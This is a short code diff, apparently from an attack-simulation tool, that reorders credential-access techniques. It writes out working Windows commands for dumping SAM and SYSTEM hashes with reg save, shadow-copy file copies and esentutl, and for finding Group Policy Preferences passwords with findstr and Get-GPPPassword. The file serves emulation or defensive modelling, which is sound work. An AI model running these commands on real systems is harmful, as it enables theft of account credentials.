@@ -26,9 +26,9 @@ var credentialAccess = []*Technique{
 		ID: "T1003.002", Name: "OS Credential Dumping: Security Account Manager", Tactic: "credential-access", Effect: "hashes of local accounts are stolen",
 		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.93,
 		script: &script{at: onElevated, then: stealLocal, variants: []variant{
-			by("reg save", cmd(world.Reg, `reg save HKLM\SAM C:\Users\Public\sam.save`), file(`C:\Users\Public\sam.save`), cmd(world.Reg, `reg save HKLM\SYSTEM C:\Users\Public\system.save`)),
-			by("shadow copy", cmd(world.Cmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\Users\Public\s`), file(`C:\Users\Public\s`)),
 			by("esentutl", cmd(world.Esentutl, `esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\Users\Public\s`)),
+			by("shadow copy", cmd(world.Cmd, `cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\Users\Public\s`), file(`C:\Users\Public\s`)),
+			by("reg save", cmd(world.Reg, `reg save HKLM\SAM C:\Users\Public\sam.save`), file(`C:\Users\Public\sam.save`), cmd(world.Reg, `reg save HKLM\SYSTEM C:\Users\Public\system.save`)),
 		}},
 	},
 	{
@@ -98,8 +98,8 @@ var credentialAccess = []*Technique{
 		ID: "T1552.006", Name: "Unsecured Credentials: Group Policy Preferences", Tactic: "credential-access", Effect: "a password from the domain's policies is known",
 		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.5,
 		script: &script{at: onDomain, then: stealServices, variants: []variant{
-			by("findstr", cmd(world.Findstr, `findstr.exe /S cpassword \\{dc}\sysvol\{domain}\policies\*.xml`)),
 			by("Get-GPPPassword", block(`Get-GPPPassword -Server {dc} | Select-Object UserName,Password`)),
+			by("findstr", cmd(world.Findstr, `findstr.exe /S cpassword \\{dc}\sysvol\{domain}\policies\*.xml`)),
 		}},
 	},
 	{
